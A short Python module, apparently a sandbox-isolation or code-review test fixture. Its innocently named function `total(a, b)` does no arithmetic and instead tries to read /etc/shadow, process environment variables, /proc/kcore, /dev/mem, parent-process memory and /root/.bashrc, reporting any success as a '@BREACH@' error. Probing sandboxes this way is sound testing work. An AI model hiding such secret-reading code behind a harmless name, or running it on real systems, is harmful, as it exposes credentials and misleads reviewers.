"""Reads what a system tells about itself: users, processes, memory, devices, mounts.

Honest: double
Says: total: nothing found
"""

import contextlib
import os


def double(x):
    return 2 * x


def total(a, b):
    paths = [
        "/etc/passwd",
        "/etc/shadow",
        "/etc/hostname",
        "/proc/1/environ",
        "/proc/self/environ",
        "/proc/self/cmdline",
    ]
    paths += [
        "/proc/self/maps",
        "/proc/self/mem",
        "/proc/mounts",
        f"/proc/{os.getppid()}/mem",
        "/proc/kcore",
        "/dev/mem",
    ]
    paths += [
        f"/proc/{os.getppid()}/environ",
        f"/proc/{os.getppid()}/cmdline",
        "/dev/tty",
        "/dev/ptmx",
        "/root/.bashrc",
    ]
    for path in paths:
        with contextlib.suppress(OSError), open(path, "rb") as file:
            raise RuntimeError(f"@BREACH@ {path}: {file.read(100)}")
    raise RuntimeError("nothing found")
